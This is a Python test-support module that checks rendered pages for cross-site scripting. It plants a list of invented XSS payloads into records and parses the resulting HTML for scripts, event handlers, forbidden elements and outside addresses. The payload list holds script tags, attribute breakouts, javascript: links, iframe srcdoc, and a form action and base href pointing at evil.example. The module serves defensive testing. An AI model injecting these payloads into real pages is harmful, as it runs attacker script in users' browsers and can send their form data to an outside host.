"""Texts that would do something if a page took them for more than text, and the proof that it
didn't."""

from __future__ import annotations

import json
import os
import re
from collections import Counter
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from lxml import html

DATA = Path(os.environ.get("COACH_EVAL_DATA", Path(__file__).parents[2] / "shared" / "data"))
MARK = "xq7mark"  # stands in every invented one, and nowhere else
INVENTED = (
    f'<img src="/{MARK}" onerror="document.title=1"><script>document.title="{MARK}"</script>',
    f'" onmouseover="alert(1)" {MARK}="',
    f"' autofocus onfocus='alert(1)' {MARK}='",
    f"</textarea></title></style></script><svg/onload=alert(1) class={MARK}>",
    f"</span></p></article></main><form action=//evil.example/{MARK}><button>Send",
    f'<a href="javascript:alert(1)">{MARK}</a> [{MARK}](javascript:alert(2))',
    f"![{MARK}](http://evil.example/a.png) <base href=//evil.example> <meta http-equiv=refresh>",
    f"--><iframe srcdoc='<script>alert(1)</script>'>{MARK}<!--",
    f"{{{{ 7*7 }}}} {{% raw %}} ${{alert(1)}} {MARK} &lt;script&gt;",
    f"\u202e<ScRiPt\n>alert(1)//{MARK}</sCrIpT\t>",
)
#: What no page has but from somebody's text. ``style`` is used for widths of pictures of our own.
NEVER = ("iframe", "object", "embed", "base", "applet", "marquee", "frame", "frameset", "xml")
FREE_TEXT = re.compile(r"^(?:value|title|alt|placeholder|aria-.*|data-.*|content)$")
ADDRESSES = ("href", "src", "action", "formaction", "srcset", "poster", "xlink:href")


def cases() -> list[str]:
    """Ours, and those of the evaluation data where that is there."""
    file = DATA / "security" / "xss_cases.json"
    given = json.loads(file.read_text("utf-8")) if file.exists() else []
    return [*INVENTED, *(str(case["input"]) for case in given)]


def planted(record: Any, text: str, kept: frozenset[str]) -> Any:
    """``record`` with ``text`` in place of every string, but for those under the names ``kept``."""
    if isinstance(record, dict):
        return {k: v if k in kept else planted(v, text, kept) for k, v in record.items()}
    if isinstance(record, list):
        return [planted(one, text, kept) for one in record]
    return text if isinstance(record, str) and record else record


def shape(page: str) -> Counter[str]:
    """How often each element stands in it, with the names of its attributes."""
    return Counter(
        f"{one.tag}[{' '.join(sorted(one.attrib))}]"
        for one in html.document_fromstring(page).iter()
        if isinstance(one.tag, str)
    )


def harms(page: str) -> Iterator[str]:
    """What a browser would take for more than text."""
    for one in html.document_fromstring(page).iter():
        if not isinstance(one.tag, str):
            if MARK in (one.text or ""):
                yield f"a comment holds it: {one.text}"
            continue
        if one.tag in NEVER:
            yield f"<{one.tag}>"
        if one.tag == "script" and (one.text or not (one.get("src") or "").startswith("/static/")):
            yield f"a script: {one.text or one.get('src')}"
        for name, value in one.attrib.items():
            yield from _attribute(one.tag, str(name), str(value))


def _attribute(tag: str, name: str, value: str) -> Iterator[str]:
    if name.startswith("on") or MARK in name or "srcdoc" in name:
        yield f"<{tag} {name}>"
    if name in ADDRESSES and re.match(r"\s*(?:\w[\w+.-]*:|//)", value):
        yield f"<{tag} {name}={value!r}>"
    if MARK in value and not (FREE_TEXT.match(name) or name in ADDRESSES):
        yield f"<{tag} {name}={value!r}>"
